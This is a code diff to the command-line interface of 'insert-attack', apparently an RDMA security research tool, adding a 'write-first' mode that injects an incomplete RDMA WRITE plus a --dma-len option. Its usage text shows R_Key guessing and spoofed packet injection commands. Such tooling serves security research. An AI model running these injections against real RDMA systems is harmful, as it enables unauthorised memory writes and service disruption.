@@ -52,7 +52,8 @@ int main(int argc, char** argv) {
         "Examples (softverbs: LD_LIBRARY_PATH=build/hosttrace/softverbs):\n"
         "  insert-attack rkey-guess --server 10.88.0.5 --port 18515 --count 8\n"
         "  insert-attack inject --dst 10.88.0.15 --qpn 0x5a0100 --psn 0x12ab34 \\\n"
-        "      --rkey 0x1b7 --va 0x5559bcd36000 --src 10.88.0.1    # spoofed as the peer\n");
+        "      --rkey 0x1b7 --va 0x5559bcd36000 --src 10.88.0.1    # spoofed as the peer\n"
+        "  insert-attack inject ... --op write-first --len 1024 --dma-len 4096 --src ...\n");
 
     insert::attack::RkeyGuessOptions guess;
     auto* g = app.add_subcommand(
@@ -91,8 +92,14 @@ int main(int argc, char** argv) {
     i->add_option("--psn", psn, "PSN of the first packet (default 0)")->check(number(24));
     i->add_option("--src", inj.src_ip,
                   "source address to claim (default: this host's address towards --dst)");
-    i->add_option("--op", inj.op, "write (RDMA WRITE Only, default) or send (SEND Only)")
-        ->check(CLI::IsMember({"write", "send"}));
+    i->add_option("--op", inj.op,
+                  "write (RDMA WRITE Only, default), send (SEND Only) or write-first (RDMA "
+                  "WRITE First whose Middle and Last never come: a message that never "
+                  "completes)")
+        ->check(CLI::IsMember({"write", "send", "write-first"}));
+    i->add_option("--dma-len", inj.dma_len,
+                  "write-first: the RETH length, more than --len (default 4 x --len)")
+        ->check(CLI::Range(1u, 0x7FFFFFFFu));
     i->add_option("--rkey", rkey, "R_Key of the WRITE (decimal or 0x hex)")->check(number(32));
     i->add_option("--va", va, "remote address of the WRITE (decimal or 0x hex)")->check(number(64));
     i->add_option("--len", inj.len, "payload bytes per packet, at most 4096 (default 64)")
